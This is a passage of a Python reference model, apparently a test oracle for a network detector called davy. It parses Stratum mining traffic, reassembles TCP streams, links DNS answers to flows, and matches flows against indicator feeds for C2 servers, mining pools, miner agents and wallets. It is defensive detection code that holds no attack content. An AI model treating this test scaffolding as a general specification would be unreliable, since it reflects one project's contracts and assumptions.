                self.agent = cut(params[0], 128)
            if j_str(j_elem(params, 2)) and not self.host:
                self.host = cut(params[2], STRATUM_HOST_MAX)
            if isinstance(params, list) and any(self._es_marker(x) for x in params):
                self._set_dialect(ETHSTRATUM)
            self._pending_add(idv, K_SUBSCRIBE, d)
            self._client(d)
            return True
        if m == "mining.authorize":
            self._set_dialect(V1)
            if j_str(j_elem(params, 0)):
                self._set_login(params[0])
            if j_str(j_elem(params, 1)):
                self.pw = cut(params[1], 64)
            self._pending_add(idv, K_AUTHORIZE, d)
            self._client(d)
            return True
        if m == "mining.submit":
            self._set_dialect(V1)
            self.submits += 1
            self._pending_add(idv, K_SUBMIT, d)
            self._client(d)
            return True
        if m in ("mining.configure", "mining.extranonce.subscribe", "mining.suggest_difficulty"):
            self._set_dialect(V1)
            self._pending_add(idv, K_OTHER, d)
            self._client(d)
            return True
        if m == "mining.notify":
            if j_len(params) < 3:
                return False
            a, b, clean = j_elem(params, 1), j_elem(params, 2), j_elem(params, 3)
            es = (len(params) == 4 and j_str(a) and len(a) == 64 and is_hex(a) and j_str(b)
                  and len(b) == 64 and is_hex(b) and isinstance(clean, bool))
            self._set_dialect(ETHSTRATUM if es else V1)
            self.jobs += 1
            self.roles.add("server")
            return True
        if m == "mining.set_difficulty":
            v = j_elem(params, 0)
            text = v if j_str(v) else v.text if isinstance(v, JFloat) else \
                "%d" % v if j_int(v) else None
            if not text:
                return False
            self.difficulty = cut(text, 80)
            self._set_dialect(V1)
            self.roles.add("server")
            return True
        if m in ("mining.set_extranonce", "mining.set_version_mask"):
            self._set_dialect(V1)
            self.roles.add("server")
            return True
        if m == "eth_submitLogin":
            self._set_dialect(ETHPROXY)
            if j_str(j_elem(params, 0)):
                self._set_login(params[0])
            if j_str(j_elem(params, 1)):
                self.pw = cut(params[1], 64)
            if not self.worker and j_str(j_member(msg, "worker")):
                self.worker = cut(msg["worker"], 64)
            self._pending_add(idv, K_ETH_LOGIN, d)
            self._client(d)
            return True
        if m in ("eth_getWork", "eth_submitWork", "eth_submitHashrate"):
            self._set_dialect(ETHPROXY)
            kind = {"eth_getWork": K_ETH_GETWORK, "eth_submitWork": K_SUBMIT}.get(m, K_OTHER)
            if kind == K_SUBMIT:
                self.submits += 1
            self._pending_add(idv, kind, d)
            self._client(d)
            return True
        if m == "login":
            return self._cn_login(d, params, idv)
        if m == "submit":
            if not (isinstance(params, dict) and all(k in params for k in ("job_id", "nonce", "result"))):
                return False
            self._set_dialect(CRYPTONOTE)
            self.submits += 1
            self._pending_add(idv, K_SUBMIT, d)
            self._client(d)
            return True
        if m == "job":
            if not self._cn_job(params):
                return False
            self._set_dialect(CRYPTONOTE)
            self.roles.add("server")
            return True
        if m in ("keepalived", "getjob"):
            if self.dialect != CRYPTONOTE:
                return False
            self._pending_add(idv, K_OTHER, d)
            self._client(d)
            return True
        if m == "client.reconnect":
            # the host the pool sends its miner to: taken from the server's
            # side only; not evidence of Stratum by itself (no capture sends
            # it before a dialect is known)
            assert self.dialect, "client.reconnect before a dialect is known"
            if self.client_dir >= 0 and d != self.client_dir and j_str(j_elem(params, 0)) \
                    and not self.host:
                self.host = cut(params[0], STRATUM_HOST_MAX)
        return False

    def _response(self, d, msg):
        res = j_member(msg, "result")
        kind, key = self._pending_take(j_member(msg, "id"), d)
        if kind == K_FREE:
            dl = self._sub_result(res)
            if dl:
                self._set_dialect(dl)
            elif self._eth_work(res):
                self._set_dialect(ETHPROXY)
            elif self._cn_job(j_member(res, "job")):
                self._set_dialect(CRYPTONOTE)
            else:
                return False
            self.roles.add("server")
            return True
        if kind == K_SUBSCRIBE:
            dl = self._sub_result(res)
            if dl:
                self._set_dialect(dl)
        elif kind == K_SUBMIT:
            o = self._outcome(msg)
            self.accepted += o > 0
            self.rejected += o < 0
        elif kind == K_ETH_GETWORK:
            self._eth_work(res)
        elif kind == K_CN_LOGIN:
            self._cn_job(j_member(res, "job"))
        elif kind == K_CN_TENTATIVE:
            h = self.held
            mine = h is not None and h["key"] == key
            if not mine or not self._cn_job(j_member(res, "job")):
                if mine:
                    self.held = None
                return False
            self._set_dialect(CRYPTONOTE)
            p = h["params"]
            self.login = self.pw = self.agent = self.algo = self.rigid = ""
            self._apply_cn_login(p)
            self._client(h["dir"])
            self.held = None
        self.roles.add("server")
        return True

    def verdict(self):
        if self.dialect:
            return "is"
        if self.not_framed:
            return "not_framed"
        if self.nonstratum >= STRATUM_NOT_LINES:
            return "not"
        return "undecided"

    def record(self):
        role = "both" if len(self.roles) == 2 else "server" if "server" in self.roles else "client"
        r = {"dialect": DIALECTS[self.dialect], "role": role}
        for k, v in (("login", self.login), ("wallet_type", self.wtype), ("worker", self.worker),
                     ("pass", self.pw), ("agent", self.agent), ("algo", self.algo),
                     ("rigid", self.rigid), ("difficulty", self.difficulty)):
            if v:
                r[k] = v
        r.update(jobs=self.jobs, submits=self.submits, accepted=self.accepted,
                 rejected=self.rejected)
        assert set(r) <= set(STRATUM_FIELDS)
        return r


def sdiff(a, b):
    """a - b in TCP sequence space (signed 32 bits)."""
    x = (a - b) & 0xFFFFFFFF
    return x - (1 << 32) if x & 0x80000000 else x


class RefReasmDir:
    def __init__(self):
        self.started = False
        self.next = 0        # sequence number of the next byte to deliver
        self.fin = None      # sequence number of the first FIN
        self.pos = 0         # stream offset of next (0 where the direction started)
        self.pieces = []     # [start offset, bytearray] buffered after next, sorted

    def off(self, seq):
        return self.pos + sdiff(seq, self.next)


class RefReasm:
    """tcp_reasm.h for one flow: calls out(dir, bytes) and out(dir, None)
    (a gap) in order; counts gaps by kind in st. Pieces as the contract
    says: at most REASM_SEGS per direction of at most REASM_CHUNK bytes; an
    out-of-order segment that continues a piece, or ends where one starts,
    goes into that piece while it has room."""

    def __init__(self, st, out):
        self.d = [RefReasmDir(), RefReasmDir()]
        self.st, self.out = st, out

    def _deliver(self, i, data):
        r = self.d[i]
        r.pos += len(data)
        r.next = (r.next + len(data)) & 0xFFFFFFFF
        self.out(i, bytes(data))

    def _drain(self, i):
        r = self.d[i]
        while r.pieces and r.pieces[0][0] == r.pos:
            self._deliver(i, r.pieces.pop(0)[1])

    def _skip_to(self, i, pos, kind):
        r = self.d[i]
        assert pos > r.pos
        self.st["gaps"] += 1
        self.st["gaps_" + kind] += 1
        self.out(i, None)
        r.next = (r.next + pos - r.pos) & 0xFFFFFFFF
        r.pos = pos
        self._drain(i)

    def segment(self, i, seq, flags, ack, data):
        r, o = self.d[i], self.d[1 - i]
        if flags & TCP_SYN:
            r.__init__()
            r.started, r.next = True, (seq + 1) & 0xFFFFFFFF
        if flags & TCP_ACK and o.started and sdiff(ack, o.next) > 0:
            # the ACK comes first: it speaks of what the other side sent before
            limit = o.off(o.fin if o.fin is not None and sdiff(ack, o.fin) > 0 else ack)
            while o.pos < limit:
                self._skip_to(1 - i, min([limit] + [p[0] for p in o.pieces[:1]]), "ack")
        if data:
            if not r.started:
                r.started, r.next = True, seq
            self._data(i, r.off(seq), data)
        if flags & TCP_FIN and r.fin is None:
            r.fin = (seq + len(data)) & 0xFFFFFFFF

    def _data(self, i, s0, data):
        r = self.d[i]
        e = s0 + len(data)
        pos = s0
        while pos < e:
            if pos < r.pos:  # delivered already
                pos = min(e, r.pos)
                continue
            k = 0
            while k < len(r.pieces) and r.pieces[k][0] + len(r.pieces[k][1]) <= pos:
                k += 1
            pc = r.pieces[k] if k < len(r.pieces) else None
            if pc and pos >= pc[0]:  # buffered already: the first copy wins
                pos = min(e, pc[0] + len(pc[1]))
                continue
            hole = min(e, pc[0]) if pc else e
            src = data[pos - s0:hole - s0]
            prev = r.pieces[k - 1] if k else None
            if pos == r.pos:
                self._deliver(i, src)
                self._drain(i)
                pos = hole
            elif prev and prev[0] + len(prev[1]) == pos and len(prev[1]) < REASM_CHUNK:
                n = min(len(src), REASM_CHUNK - len(prev[1]))
                prev[1] += src[:n]
                pos += n
            elif pc and hole == pc[0] and len(pc[1]) < REASM_CHUNK:
                n = min(len(src), REASM_CHUNK - len(pc[1]))
                pc[1][:0] = src[len(src) - n:]
                pc[0] -= n
            elif len(r.pieces) == REASM_SEGS:
                self._skip_to(i, min(pos, r.pieces[0][0]), "full")
            else:
                n = min(len(src), REASM_CHUNK)
                r.pieces.insert(k, [pos, bytearray(src[:n])])
                pos += n

    def flush(self):
        for i in (0, 1):
            r = self.d[i]
            while r.pieces:
                self._skip_to(i, r.pieces[0][0], "flush")


REASM_COUNTERS = ("gaps", "gaps_ack", "gaps_full", "gaps_flush")


class FlowL7:
    """What davy's stratum_flow.c does with one TCP flow, as its contract
    (include/stratum_flow.h, the brief of issue 4) says: candidate choice,
    reassembly, parser, alerts due, the Stratum V2 heuristic."""

    def __init__(self, st):
        self.seen = [False, False]
        self.done = False
        self.parser = None
        self.reasm = None
        self.syn = False
        self.v2 = "start"
        self.alerts = []   # (sid, ts_us, dir)
        self.alerted = set()
        self.st = st
        self.ts = 0
        self.pkt_alerts = []
        self.candidate = 0

    def _due(self, sid, d):
        if sid not in self.alerted:
            self.alerted.add(sid)
            self.pkt_alerts.append({"sid": sid, "ts": self.ts, "dir": d})

    def _out(self, d, data):
        p = self.parser
        if data is None:
            p.gap(d)
            return
        p.feed(d, data)
        self._evidence(d)

    def _evidence(self, d):
        p = self.parser
        if "client" in p.roles:
            self._due(SID_CLIENT, p.client_dir if p.client_dir >= 0 else d)
        elif "server" in p.roles:
            self._due(SID_SERVER, d)

    def _end_packet(self):
        for a in self.pkt_alerts:  # the alert record shows the state after the packet
            if a["sid"] in (SID_CLIENT, SID_SERVER):
                a["dialect"] = DIALECTS[self.parser.dialect] if self.parser else None
            self.alerts.append(a)
        self.pkt_alerts = []

    def _v2(self, d, payload):
        n = len(payload)
        if self.v2 == "start":
            ok = d == 0 and n == V2_HELLO_LEN and self.syn
            if ok:
                h = entropy(payload)
                assert abs(h - V2_MIN_ENTROPY) > 0.05, "64-byte first payload near the entropy bar"
                ok = h >= V2_MIN_ENTROPY
            self.v2 = "hello" if ok else "off"
        elif self.v2 == "hello":
            self.v2 = "answer" if d == 1 and n == V2_ANSWER_LEN else "off"
        elif self.v2 == "answer":
            self.v2 = "record" if d == 0 and n >= V2_MIN_RECORD else "off"
        elif self.v2 == "record" and d == 1:
            if n >= V2_MIN_RECORD:
                self._due(SID_V2, 0)
            self.v2 = "off"

    def packet(self, d, ts, l4):
        self.ts = ts
        flags = l4[13]
        if flags & TCP_SYN:
            self.syn = True
        payload = l4[(l4[12] >> 4) * 4:]
        if not self.done:
            self._packet(d, flags, l4, payload)
        self._end_packet()

    def _packet(self, d, flags, l4, payload):
        if payload and self.v2 != "off":
            self._v2(d, payload)
        if self.parser is None:
            if payload and not self.seen[d]:
                self.seen[d] = True
                if payload.lstrip(b" \t\r\n")[:1] == b"{":
                    self.candidate = 1
                    self.parser = RefStratum()
                    self.reasm = RefReasm(self.st, self._out)
            if self.parser is None:
                if all(self.seen) and self.v2 == "off":
                    self.done = True
                return
        seq, ack = struct.unpack_from("!II", l4, 4)
        self.reasm.segment(d, seq, flags, ack, payload)
        if self.parser.verdict() in ("not", "not_framed"):
            self.parser = self.reasm = None
            self.done = True

    def finish(self, last_ts):
        """The flow ends: what reassembly holds is delivered, then a last
        line without its newline is read (stratum_end), at the flow's last
        packet time."""
        if self.reasm is not None:
            self.ts = last_ts
            self.reasm.flush()
            self.parser.end()
            cd = self.parser.client_dir
            self._evidence(1 - cd if cd >= 0 else 1)  # (a pool speaks to the client)
            self._end_packet()

    def stratum(self):
        if self.parser is not None and self.parser.dialect:
            return self.parser.record()
        return None


# --------------------------------------------------------------------------
# Reference DNS linkage (rules in RULES["dns_linkage"]): which DNS answers
# become address -> name links (include/dnslink.h, include/dns.h), the
# per-worker replica cache (include/dnscache.h) and the names each flow gets
# when it is created. Written from those contracts, not from davy's C code.

DNS_MIN_TTL_S, DNS_MAX_TTL_S = 300, 86400  # --dns-min-ttl default, the fixed ceiling
DNSLINK_CNAMES = 16
DNS_TYPE_A, DNS_TYPE_CNAME, DNS_TYPE_AAAA, DNS_CLASS_IN = 1, 5, 28, 1
DNS_MAX_JUMPS = 16
DNSLINK_COUNTERS = ("responses", "errors", "links", "tcp_split", "cname_overflow")


class DnsError(Exception):
    pass  # args[0]: truncated, label, ptr_bad, ptr_loop, name_too_long, rdlength


def dns_name(msg, off):
    """A name at msg[off:] as include/dns.h reads it -> (text or None when
    a byte is not kept, the offset just past its in-place bytes)."""
    begin, p, jumps, wire, after = off, off, 0, 0, None
    labels, kept = [], True
    while True:
        if p >= len(msg):
            raise DnsError("truncated")
        n = msg[p]
        if n >= 0xC0:
            if p + 1 >= len(msg):
                raise DnsError("truncated")
            t = ((n & 0x3F) << 8) | msg[p + 1]
            if t < 12 or t > p:
                raise DnsError("ptr_bad")
            if t >= begin:
                raise DnsError("ptr_loop")
            jumps += 1
            if jumps > DNS_MAX_JUMPS:
                raise DnsError("ptr_loop")
            if after is None:
                after = p + 2
            begin = p = t
            continue
        if 0x40 <= n:
            raise DnsError("label")
        wire += 1 + n
        if wire > 255:
            raise DnsError("name_too_long")
        if n == 0:
            if after is None:
                after = p + 1
            break
        if p + 1 + n > len(msg):
            raise DnsError("truncated")
        lab = msg[p + 1:p + 1 + n]
        if any(b < 0x21 or b > 0x7E or b == 0x2E for b in lab):
            kept = False
        labels.append(lab.decode("ascii", "replace").lower())
        p += 1 + n
    return (".".join(labels) if kept else None), after


def dns_parse(msg):
    """-> (qname: the first question's name, "" when none or not kept; the
    A/AAAA/CNAME answers of class IN given, in message order, each (type,
    owner, ttl, address bytes or CNAME target); the error or None). After an
    error, what was read before it stays."""
    qname, rrs = "", []
    try:
        if len(msg) < 12:
            raise DnsError("truncated")
        qd, an = u16(msg, 4), u16(msg, 6)
        off = 12
        for i in range(qd):
            name, off = dns_name(msg, off)
            if off + 4 > len(msg):
                raise DnsError("truncated")
            off += 4
            if i == 0:
                qname = name or ""
        for i in range(an):
            owner, off = dns_name(msg, off)
            if off + 10 > len(msg):
                raise DnsError("truncated")
            typ, cls, ttl, rdlen = struct.unpack_from("!HHIH", msg, off)
            off += 10
            if off + rdlen > len(msg):
                raise DnsError("truncated")
            if ttl & 0x80000000:
                ttl = 0
            if cls == DNS_CLASS_IN and typ in (DNS_TYPE_A, DNS_TYPE_AAAA):
                if rdlen != (4 if typ == DNS_TYPE_A else 16):
                    raise DnsError("rdlength")
                if owner is not None:
                    rrs.append((typ, owner, ttl, bytes(msg[off:off + rdlen])))
            elif cls == DNS_CLASS_IN and typ == DNS_TYPE_CNAME:
                target, end = dns_name(msg, off)
                if end != off + rdlen:
                    raise DnsError("rdlength")
                if owner is not None and target is not None:
                    rrs.append((typ, owner, ttl, target))
            off += rdlen
        return qname, rrs, None
    except DnsError as e:
        return qname, rrs, e.args[0]


def dns_chain(qname, cnames, owner):
    """Whether the CNAME records cnames [(owner, target)] lead from qname to
    owner (owner != qname)."""
    at, seen = qname, {qname}
    for _ in range(len(cnames)):
        nxt = [t for o, t in cnames if o == at]
        if not nxt:
            return False
        assert len(nxt) == 1, "a capture with two CNAMEs for one name"
        at = nxt[0]
        if at == owner:
            return True
        if at in seen:
            return False
        seen.add(at)
    return False


class RefDnsLink:
    """The reader's half (dnslink.h): links from DNS answers, in packet
    order; and the cache every worker keeps (dnscache.h). Links of a packet
    reach the cache after that packet's own flow was looked up."""

    def __init__(self):
        self.st = dict.fromkeys(DNSLINK_COUNTERS, 0)
        self.cache = {}   # (ipver, packed address) -> (expires_us, name, query)
        self.linked = 0   # flows given a name

    def _message(self, msg, now):
        if len(msg) < 12 or not msg[2] & 0x80 or msg[2] & 0x78:
            return  # not a response to a standard query
        self.st["responses"] += 1
        if msg[3] & 0x0F:
            return  # rcode other than NOERROR
        qname, rrs, err = dns_parse(msg)
        if err:
            self.st["errors"] += 1
        cnames_all = [(o, t) for typ, o, _, t in rrs if typ == DNS_TYPE_CNAME]
        if len(cnames_all) > DNSLINK_CNAMES:
            self.st["cname_overflow"] += len(cnames_all) - DNSLINK_CNAMES
        seen = []
        for typ, owner, ttl, rd in rrs:
            if typ == DNS_TYPE_CNAME:
                if len(seen) < DNSLINK_CNAMES:
                    seen.append((owner, rd))
                continue
            chained = bool(qname) and owner != qname and dns_chain(qname, seen, owner)
            # the captures never depend on whether a CNAME after the address counts
            assert chained == (bool(qname) and owner != qname
                               and dns_chain(qname, cnames_all[:DNSLINK_CNAMES], owner)), \
                "a capture whose CNAME chain comes after its address record"
            self.st["links"] += 1
            ttl_us = min(max(ttl, DNS_MIN_TTL_S), DNS_MAX_TTL_S) * 1_000_000
            self.cache[(4 if typ == DNS_TYPE_A else 6, rd)] = (
                now + ttl_us, owner, qname if chained else None)

    def packet(self, d, now):
        """A decoded flow packet (after its flow was handled), at the reader's clock."""
        if d.sport != 53 or d.proto not in ("UDP", "TCP"):
            return
        if d.proto == "UDP":
            pay = d.l4[8:]
            if pay:
                self._message(pay, now)
            return
        pay = d.l4[(d.l4[12] >> 4) * 4:]
        off = 0
        while off < len(pay):  # whole frames only: no reassembly
            if len(pay) - off < 2 or len(pay) - off - 2 < u16(pay, off):
                self.st["tcp_split"] += 1
                return
            n = u16(pay, off)
            self._message(pay[off + 2:off + 2 + n], now)
            off += 2 + n

    def lookup(self, f, ts):
        """A flow created at ts: its destination's live entry, else its source's."""
        for a in (f.dst, f.src):
            ip = ipaddress.ip_address(a)
            e = self.cache.get((ip.version, ip.packed))
            if e is None:
                continue
            assert e[0] != ts, "a flow starting exactly when a DNS entry expires"
            if ts < e[0]:
                self.linked += 1
                return (e[2], e[1]) if e[2] else (e[1], None)
        return None

    def stats(self):
        return dict(self.st, flows_linked=self.linked)


# --------------------------------------------------------------------------
# Reference indicator matching (rules in RULES["iocs"]): the plain feed
# format read into a set (include/ioc.h, iocs/README.md), its lookups, and
# which indicator alerts a flow's facts make due, when and in which
# direction (include/ioc_match.h, docs/signatures.md, and the contract of
# the stratum URL and Stratum host facts in RULES["iocs"]). Written from
# those contracts, not from davy's C code. The model reads only what its
# feeds use and stops on anything else, rather than guess.

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
IOC_FEEDS = ("iocs/", "tests/data/test-iocs.txt")  # --iocs, in this order, from the repository
IOC_TYPES = ("ip", "cidr", "subnet", "domain", "port", "ja3", "wallet", "agent", "url", "asn",
             "image", "namespace")
IOC_NAME_CATEGORIES = ("c2", "mining-pool", "miner-agent", "miner-port", "miner-image", "wallet")
DOCKER_HUB = ("docker.io/", "index.docker.io/", "registry-1.docker.io/")
IOC_SEVERITY = {"low": "low", "medium": "medium", "high": "high", "1": "low", "2": "medium",
                "3": "high"}
IOC_ALERT_SEVERITY = {"high": 1, "medium": 2, "low": 3}
SID_IOC_LOOKUP, SID_IOC_POOL, SID_IOC_AGENT, SID_IOC_WALLET, SID_IOC_C2, SID_IOC_URL, \
    SID_IOC_OTHER = 4960101, 4960102, 4960103, 4960104, 4960105, 4960106, 4960109
# ioc.matched, in the order ioc_match.h checks them when several come with one packet
IOC_WHERE = ("dest_ip", "src_ip", "dns_linked", "dns_linked_cname", "dns.rrname", "tls.sni",
             "http.hostname", "tls.ja3.hash", "stratum.login", "stratum.agent", "stratum.host",
             "payload.stratum_url")
STRATUM_URL_SCHEMES = (b"stratum+tcp://", b"stratum+ssl://", b"stratum+tls://", b"stratum2+tcp://")
STRATUM_URL_PACKETS = 64  # packets with payload scanned per direction
NDPI_PACKETS = 24  # --ndpi-packets default: packets nDPI sees before davy ends detection


class RefIocs:
    """An indicator set loaded from plain-format feeds (ioc.h FEED FILES),
    with the lookups of ioc.h MATCHING."""

    def __init__(self, paths):
        self.by_key = {}      # (kind, normalised value) -> indicator: the first loaded wins
        self.domains = {}     # name -> indicator
        self.nets = {}        # (version, prefix) -> {network: indicator}
        self.agents = []      # indicators, load order
        self.wallets = {}
        self.files = 0        # feed files read (no bad line: the model stops on one)
        for p in paths:
            full = os.path.join(REPO, p)
            if os.path.isdir(full):
                for n in sorted(os.listdir(full), key=lambda n: n.encode()):
                    if not n.startswith(".") and not n.lower().startswith("readme") and \
                            os.path.isfile(os.path.join(full, n)):
                        self._file(os.path.join(full, n))
            else:
                self._file(full)

    @staticmethod
    def _directive(text, defaults, where):
        i, n, kv = 0, len(text), {}
        while i < n:
            if text[i] in " \t":
                i += 1
                continue
            eq = text.find("=", i)
            if eq < 0:
                raise SystemExit("%s: the model reads key=value directives only" % where)
            key = text[i:eq]
            if eq + 1 < n and text[eq + 1] == '"':
                end = text.index('"', eq + 2)
                val, i = text[eq + 2:end], end + 1
            else:
                end = eq + 1
                while end < n and text[end] not in " \t":
                    end += 1
                val, i = text[eq + 1:end], end
            key = "description" if key == "desc" else key
            if key not in ("category", "severity", "source", "description", "type"):
                raise SystemExit("%s: directive key %r (a bad line in davy; not in the model)"
                                 % (where, key))
            kv[key] = None if val in ("", "-") else val
        defaults.update(kv)

    def _file(self, path):
        feed = os.path.splitext(os.path.basename(path))[0]
        self.files += 1
        with open(path, "rb") as fh:
            data = fh.read()
        if data.startswith(b"\xef\xbb\xbf"):
            data = data[3:]
        defaults, first = {}, True
        for no, line in enumerate(data.decode("utf-8").split("\n"), 1):
            where = "%s:%d" % (os.path.relpath(path, REPO), no)
            line = line[:-1] if line.endswith("\r") else line
            s = line.strip(" \t")
            if first and s and not s.startswith("#@"):
                if s.startswith("#fields") or s.startswith("#separator"):
                    raise SystemExit("%s: a Zeek Intel feed; the model reads the plain format only"
                                     % where)
                first = False
            if s.startswith("#@"):
                self._directive(s[2:], defaults, where)
                continue
            if not s or s.startswith("#"):
                continue
            fields = [x.strip(" \t") for x in line.split("\t")]
            if len(fields) > 5:
                raise SystemExit("%s: more than five fields (a bad line)" % where)
            fields = [None if x in ("", "-") else x for x in fields] + [None] * (5 - len(fields))
            value, source, category, desc, sev = fields
            self._add(feed, where, value, source, category, desc, sev, defaults)

    @staticmethod
    def _detect(v, where):
        try:
            ipaddress.ip_address(v)
            return "ip"
        except ValueError:
            pass
        if "/" in v and "://" not in v:
            try:
                ipaddress.ip_network(v, strict=False)
                return "cidr"
            except ValueError:
                pass
        if len(v) == 32 and is_hex(v):
            return "ja3"
        if wallet_type(v):
            return "wallet"
        if v.isdigit() and 1 <= int(v) <= 65535:
            return "port"
        if "://" in v:
            return "url"
        if "." in v:
            return "domain"
        raise SystemExit("%s: no type detected for %r (a bad line)" % (where, v))

    def _add(self, feed, where, value, source, category, desc, sev, dflt):
        typ = None
        head, sep, rest = value.partition(":")
        if sep and head.lower() in IOC_TYPES:
            typ, value = head.lower(), rest.strip(" \t")
        typ = typ or (dflt.get("type") or "").lower() or self._detect(value, where)
        typ = "cidr" if typ == "subnet" else typ
        if typ in ("ip", "cidr"):
            net = ipaddress.ip_network(value, strict=False)
            assert net.prefixlen > 0, where
            assert not (net.version == 6 and net.network_address.ipv4_mapped), where
            if "/" in value:
                assert net.prefixlen < net.max_prefixlen, \
                    "%s: a /32 or /128: whether it is stored as ip or cidr is not modelled" % where
                typ, norm = "cidr", str(net)
            else:
                typ, norm = "ip", str(net.network_address)
            key = ("net", net.version, int(net.network_address), net.prefixlen)
        elif typ == "domain":
            norm = value.lower()
            norm = norm[:-1] if norm.endswith(".") else norm
            norm = norm[2:] if norm.startswith("*.") else norm[1:] if norm.startswith(".") else norm
            labels = norm.split(".")
            assert all(1 <= len(x) <= 63 and all(c.isalnum() or c in "_-" for c in x)
                       for x in labels) and not labels[-1].isdigit(), where
            key = ("domain", norm)
        elif typ == "agent":
            norm, key = value, ("agent", value.lower())
        elif typ == "wallet":
            norm = value.lower() if wallet_type(value) == "ethereum" else value
            key = ("wallet", norm)
        elif typ == "port":
            norm, key = str(int(value)), ("port", int(value))
        elif typ == "image":  # a Docker Hub registry, then "library/", dropped
            hub = next((h for h in DOCKER_HUB if value.lower().startswith(h)), "")
            norm = value[len(hub):]
            norm = norm[len("library/"):] if norm.startswith("library/") else norm
            assert norm, where
            key = ("image", norm)
        elif typ == "namespace":
            norm, key = value, ("namespace", value)
        elif typ == "asn":
            n = int(value[2:] if value[:2].lower() == "as" else value)
            norm, key = "AS%d" % n, ("asn", n)
        else:
            raise SystemExit("%s: %s indicators are not in the model" % (where, typ))
        if category is None:
            category = dflt.get("category")
        if category is None:
            category = next((c for c in IOC_NAME_CATEGORIES if feed == c or any(
                feed.startswith(c + s) for s in "-_.")), None)
        if category is None:
            category = {"port": "miner-port", "agent": "miner-agent", "wallet": "wallet",
                        "image": "miner-image", "namespace": "namespace"}.get(typ, "unknown")
        sev = sev or dflt.get("severity") or ("low" if typ in ("port", "namespace") else "medium")
        ioc = {"indicator": norm, "type": typ, "feed": feed, "category": category.lower(),
               "severity": IOC_SEVERITY[sev.lower()],
               "source": source or dflt.get("source") or "",
               "description": desc or dflt.get("description") or ""}
        if key in self.by_key:
            return  # a duplicate: the first one loaded is kept
        self.by_key[key] = ioc
        if typ in ("ip", "cidr"):
            self.nets.setdefault((net.version, net.prefixlen), {})[net] = ioc
        elif typ == "domain":
            self.domains[norm] = ioc
        elif typ == "agent":
            self.agents.append(ioc)
        elif typ == "wallet":
            self.wallets[norm] = ioc

    # -- lookups (ioc.h MATCHING)
    def find_domain(self, name):
        labels = name.lower().rstrip(".").split(".") if name else []
        for i in range(len(labels)):
            ioc = self.domains.get(".".join(labels[i:]))
            if ioc:
                return ioc
        return None

    def find_ip(self, addr):
        ip = ipaddress.ip_address(addr)
        for ver, plen in sorted(self.nets, key=lambda k: -k[1]):
            if ver == ip.version:
                ioc = self.nets[(ver, plen)].get(ipaddress.ip_network((ip, plen), strict=False))
                if ioc:
                    return ioc
        return None

    def find_host(self, host):
        """A host named in traffic: an address literal or a name."""
        try:
            return self.find_ip(host)
        except ValueError:
            return self.find_domain(host)

    def find_agent(self, s):
        low = s.lower()
        for ioc in self.agents:
            pat = ioc["indicator"].lower()
            at = low.find(pat)
            while at >= 0:
                before = low[at - 1] if at else ""
                after = low[at + len(pat)] if at + len(pat) < len(low) else ""
                if not (before.isascii() and before.isalnum()) and \
                        not (after.isascii() and after.isalnum()):
                    return ioc
                at = low.find(pat, at + 1)
        return None

    def find_wallet(self, s):
        q = s.lower() if wallet_type(s) == "ethereum" else s
        return self.wallets.get(q) or self.wallets.get(q[:wallet_part(q)])


def ioc_signature(ioc, where):
    """ioc_match.h: which signature an indicator makes due."""
    if ioc["category"] == "c2":
        return SID_IOC_C2
    if ioc["type"] == "agent":
        return SID_IOC_AGENT
    if ioc["type"] == "wallet":
        return SID_IOC_WALLET
    if ioc["category"] == "mining-pool":
        return {"dns.rrname": SID_IOC_LOOKUP, "payload.stratum_url": SID_IOC_URL}.get(
            where, SID_IOC_POOL)
    return SID_IOC_OTHER


def stratum_urls(payload):
    """The hosts of the stratum URLs in one packet's payload, in order."""
    hosts, low = [], payload.lower()
    for scheme in STRATUM_URL_SCHEMES:
        assert low.count(scheme) == payload.count(scheme), "an upper-case scheme: not modelled"
    at = 0
    while True:
        hits = [(payload.find(s, at), s) for s in STRATUM_URL_SCHEMES if payload.find(s, at) >= 0]
        if not hits:
            return hosts
        pos, scheme = min(hits)
        i = end = pos + len(scheme)
        while end < len(payload) and payload[end:end + 1] not in b"/?#\"' \t\r\n<>":
            end += 1
        auth = payload[i:end].decode("ascii")
        host = auth.rpartition("@")[2]
        assert not host.startswith("["), "an IPv6 literal in a stratum URL: not modelled"
        hosts.append(host.partition(":")[0].lower())
        at = end


def tls_sni(payload):
    """The server name of a TLS ClientHello at the start of payload, "" when
    it has none, None when payload is not a ClientHello."""
    if len(payload) < 9 or payload[0] != 0x16 or payload[5] != 1:
        return None
    p = 9 + 2 + 32
    p += 1 + payload[p]                  # session id
    p += 2 + u16(payload, p)             # cipher suites
    p += 1 + payload[p]                  # compression methods
    end = p + 2 + u16(payload, p)
    p += 2
    while p + 4 <= end:
        typ, n = u16(payload, p), u16(payload, p + 2)
        if typ == 0:                     # server_name: list length, type 0, name length, name
            return payload[p + 9:p + 9 + u16(payload, p + 7)].decode("ascii").lower()
        p += 4 + n
    return ""


def http_host(payload):
    """The Host header of an HTTP request at the start of payload, or None."""
    if not payload.startswith((b"GET ", b"POST ", b"HEAD ", b"PUT ")):
        return None
    for line in payload.split(b"\r\n\r\n")[0].split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"host":
            return v.strip().decode("ascii").lower()
    return ""


class RefIocFlow:
    """One flow's facts against the set (ioc_match.h): each fact is looked
    up once, at the packet that offers it; the first match of a signature
    is the one reported. dir 0 = from the flow's source."""

    def __init__(self, iocs, f, ts):
        self.iocs, self.f = iocs, f
        self.facts = []          # (ts, IOC_WHERE index, where, dir, indicator, fact)
        self.host = None         # nDPI's host fact: (where, name) once seen
        self.host_due = None     # its match, checked when nDPI's detection ends
        self.ndpi_pkts = 0       # packets given to nDPI
        self.stratum_done = set()
        self.stratum_host = ""   # the stratum object's host, once known
        self.payload_pkts = [0, 0]
        self._fact(ts, "dest_ip", 0, iocs.find_ip(f.dst), f.dst)
        self._fact(ts, "src_ip", 1, iocs.find_ip(f.src), f.src)
        if f.dns:
            self._fact(ts, "dns_linked", 0, iocs.find_domain(f.dns[0]), f.dns[0])
            if f.dns[1]:
                self._fact(ts, "dns_linked_cname", 0, iocs.find_domain(f.dns[1]), f.dns[1])

    def _fact(self, ts, where, d, ioc, value):
        if ioc is not None and ioc["type"] != "port":
            if where in ("payload.stratum_url", "stratum.host"):
                assert ioc["category"] == "mining-pool", \
                    "%s names a %s indicator: the contract says pools only" \
                    % (where, ioc["category"])
            self.facts.append((ts, IOC_WHERE.index(where), where, d, ioc, value))

    def _host_checked(self, ts):
        if self.host_due:
            self._fact(ts, *self.host_due)
            self.host_due = None

